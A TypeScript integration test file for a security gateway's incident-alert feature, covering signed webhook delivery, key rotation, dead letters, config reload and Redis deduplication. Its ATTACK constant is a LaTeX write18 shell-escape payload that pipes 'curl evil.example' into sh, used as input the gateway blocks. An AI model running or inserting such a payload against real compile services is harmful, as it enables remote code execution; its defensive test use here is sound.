// Alerts of incidents through real gateways: a critical incident is sent at once to a real receiver that
// verifies it with the standardwebhooks package (a client no one here wrote), with key rotation; a receiver on
// loopback not allowed in allow_private is refused (dead letter, listed and counted); and two gateways on one
// Redis send one alert for one incident.
import { afterEach, describe, expect, it } from 'vitest';
import { request } from 'undici';
import { Webhook } from 'standardwebhooks';
import { baseConfig, COMPILE_ROUTE, metric, startTestGateway, type TestGateway } from '../../helpers/gateway.js';
import { startUpstream, type TestUpstream } from '../../helpers/upstream.js';
import { until } from '../../helpers/poll.js';
import { describeRedis, startRedis, type RedisServer } from '../../helpers/redis.js';
import { startReceiver, type Receiver } from '../../unit/alerts/helpers.js';
import { systemTimers } from '../../../src/alerts/timers.js';

const TOKEN = 'alerts-admin-token';
const ATTACK = JSON.stringify({ tikz_code: '\\immediate\\write18{curl evil.example | sh}' });
// two secrets (rotation): the old one first, the current one second; every one signs
const OLD = `whsec_${Buffer.alloc(32, 1).toString('base64')}`;
const NEW = `whsec_${Buffer.alloc(32, 2).toString('base64')}`;
const UNKNOWN = `whsec_${Buffer.alloc(32, 3).toString('base64')}`;

let up: TestUpstream | null = null;
let rx: Receiver | null = null;
let redis: RedisServer | null = null;
const gws: TestGateway[] = [];
afterEach(async () => {
  for (const g of gws.splice(0)) await g.close();
  await up?.close();
  await rx?.close();
  await redis?.stop();
  up = rx = redis = null;
});

function config(upstream: string, alerts: string, extra = ''): string {
  const yaml = `${COMPILE_ROUTE}decisions:\n  auto: { critical_signature: false }\nincidents:\n  mode: enforce\n  alerts:\n${alerts}${extra}`;
  return baseConfig(upstream, yaml, '  trusted_proxies: [127.0.0.1/32]').replace(
    'admin:\n',
    `admin:\n  tokens: [${TOKEN}]\n`,
  );
}

async function attack(g: TestGateway, client: string): Promise<number> {
  const r = await request(`${g.url}/compile`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-forwarded-for': client },
    body: ATTACK,
  });
  await r.body.dump();
  return r.statusCode;
}

describe('incident alerts', () => {
  it('send a critical incident at once, signed with every secret, verified by standardwebhooks', async () => {
    up = await startUpstream();
    rx = await startReceiver(systemTimers);
    const alerts = `    allow_private: [127.0.0.1/32]\n    sinks:\n      - { type: webhook, name: ops, url: "${rx.url}", secrets: ["${OLD}", "${NEW}"] }\n`;
    const g = await startTestGateway(config(up.url, alerts));
    gws.push(g);
    const sent = Date.now();
    expect(await attack(g, '203.0.113.66')).toBe(403);
    const got = await Promise.race([rx.request(0), new Promise<null>((r) => setTimeout(() => r(null), 5_000))]);
    expect(got).not.toBeNull();
    // time to respond: from the attack to the alert at the receiver (goal: under 5 s)
    const respondedMs = Date.now() - sent;
    console.log(`time to respond (attack sent -> signed alert received): ${respondedMs} ms`);
    expect(respondedMs).toBeLessThan(5_000);
    const headers = {
      'webhook-id': String(got!.headers['webhook-id']),
      'webhook-timestamp': String(got!.headers['webhook-timestamp']),
      'webhook-signature': String(got!.headers['webhook-signature']),
    };
    // a receiver that knows either secret verifies; one that knows neither does not
    const payload = new Webhook(NEW.slice(6)).verify(got!.body, headers) as Record<string, unknown>;
    expect(new Webhook(OLD.slice(6)).verify(got!.body, headers)).toEqual(payload);
    expect(() => new Webhook(UNKNOWN.slice(6)).verify(got!.body, headers)).toThrow();
    expect(() => new Webhook(NEW.slice(6)).verify(got!.body.replace('critical', 'low'), headers)).toThrow();
    expect(payload).toMatchObject({
      schema: 'portcullis.alert/1',
      type: 'incident.opened',
      incident: { kind: 'attack', severity: 'critical', state: 'open', subject: 'ip:203.0.113.66' },
    });
    expect((payload.incident as { actions: string[] }).actions[0]).toBe('block_ip 3600s 203.0.113.66');
    expect(
      await until(async () =>
        (await metric(g.adminUrl, 'portcullis_alerts_total', { sink: 'ops', outcome: 'delivered' })) === 1 ? 1 : null,
      ),
    ).toBe(1);
    // the same incident hit again: no second alert (transitions only)
    await attack(g, '203.0.113.66');
    await new Promise((r) => setTimeout(r, 200));
    expect(rx.received).toHaveLength(1);
  });

  it('refuse a receiver on loopback that allow_private does not name: a dead letter, listed and counted', async () => {
    up = await startUpstream();
    rx = await startReceiver(systemTimers);
    const alerts = `    sinks:\n      - { type: webhook, name: ops, url: "${rx.url}", secrets: ["${NEW}"] }\n`;
    const g = await startTestGateway(config(up.url, alerts));
    gws.push(g);
    expect(await attack(g, '203.0.113.70')).toBe(403);
    const dead = await until(async () => {
      const r = await request(`${g.adminUrl}/admin/api/alerts/dead-letters`, {
        headers: { authorization: `Bearer ${TOKEN}` },
      });
      const body = (await r.body.json()) as { dead_letters: { id: string; sink: string; reason: string }[] };
      return body.dead_letters.length > 0 ? body.dead_letters : null;
    });
    expect(dead).toHaveLength(1);
    expect(dead![0]!.sink).toBe('ops');
    expect(rx.received).toHaveLength(0);
    expect(await metric(g.adminUrl, 'portcullis_alerts_total', { sink: 'ops', outcome: 'refused' })).toBe(1);
    // re-sent through the admin API: tried again (and refused again: the address is still not allowed)
    const resend = await request(`${g.adminUrl}/admin/api/alerts/dead-letters/${encodeURIComponent(dead![0]!.id)}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${TOKEN}` },
    });
    expect(resend.statusCode).toBe(202);
    await resend.body.dump();
    expect(
      await until(async () =>
        (await metric(g.adminUrl, 'portcullis_alerts_total', { sink: 'ops', outcome: 'refused' })) === 2 ? 2 : null,
      ),
    ).toBe(2);
    const unknown = await request(`${g.adminUrl}/admin/api/alerts/dead-letters/msg_nothing`, {
      method: 'POST',
      headers: { authorization: `Bearer ${TOKEN}` },
    });
    expect(unknown.statusCode).toBe(404);
    await unknown.body.dump();
  });

  it('follow a reload: the new sinks get the next alerts, the incidents and their blocks stay', async () => {
    up = await startUpstream();
    rx = await startReceiver(systemTimers);
    const rx2 = await startReceiver(systemTimers);
    try {
      const sinkTo = (url: string) =>
        `    allow_private: [127.0.0.1/32]\n    sinks:\n      - { type: webhook, name: ops, url: "${url}", secrets: ["${NEW}"] }\n`;
      const g = await startTestGateway(config(up.url, sinkTo(rx.url)));
      gws.push(g);
      expect(await attack(g, '203.0.113.80')).toBe(403);
      await rx.request(0);
      await g.write(config(up.url, sinkTo(rx2.url)));
      expect((await g.gw.reload()).ok).toBe(true);
      expect(await attack(g, '203.0.113.81')).toBe(403);
      const second = await Promise.race([rx2.request(0), new Promise<null>((r) => setTimeout(() => r(null), 5_000))]);
      expect(second).not.toBeNull();
      expect(JSON.parse(second!.body)).toMatchObject({ incident: { subject: 'ip:203.0.113.81' } });
      expect(rx.received).toHaveLength(1);
      // the incident opened before the reload is still there, and still blocks
      const r = await request(`${g.adminUrl}/admin/api/incidents`, { headers: { authorization: `Bearer ${TOKEN}` } });
      const listed = (await r.body.json()) as { incidents: { subject: string }[] };
      expect(listed.incidents.map((i) => i.subject).sort()).toEqual(['ip:203.0.113.80', 'ip:203.0.113.81']);
    } finally {
      await rx2.close();
    }
  });

  it('refuse a bad signing secret at load, with its path', async () => {
    up = await startUpstream();
    const alerts = `    sinks:\n      - { type: webhook, name: ops, url: "https://alerts.example/hook", secrets: ["not-a-secret"] }\n`;
    await expect(startTestGateway(config(up.url, alerts))).rejects.toThrow(
      /incidents\.alerts\.sinks\.0\.secrets\.0|secrets/,
    );
  });
});

describeRedis('incident alerts with two gateways on one Redis', () => {
  it('send one alert for one incident', async () => {
    redis = await startRedis();
    up = await startUpstream();
    rx = await startReceiver(systemTimers);
    const alerts = `    allow_private: [127.0.0.1/32]\n    sinks:\n      - { type: webhook, name: ops, url: "${rx.url}", secrets: ["${NEW}"] }\n`;
    const store = `store:\n  type: redis\n  redis:\n    url: redis://127.0.0.1:${redis.port}\n    key_prefix: "alerts:"\n    timeout_ms: 2000\n`;
    for (let i = 0; i < 2; i++) gws.push(await startTestGateway(config(up.url, alerts, store)));
    const [a, b] = gws as [TestGateway, TestGateway];
    expect(await Promise.all([attack(a, '192.0.2.55'), attack(b, '192.0.2.55')])).toEqual([403, 403]);
    await rx.request(0);
    await new Promise((r) => setTimeout(r, 500));
    expect(rx.received).toHaveLength(1);
  });
});
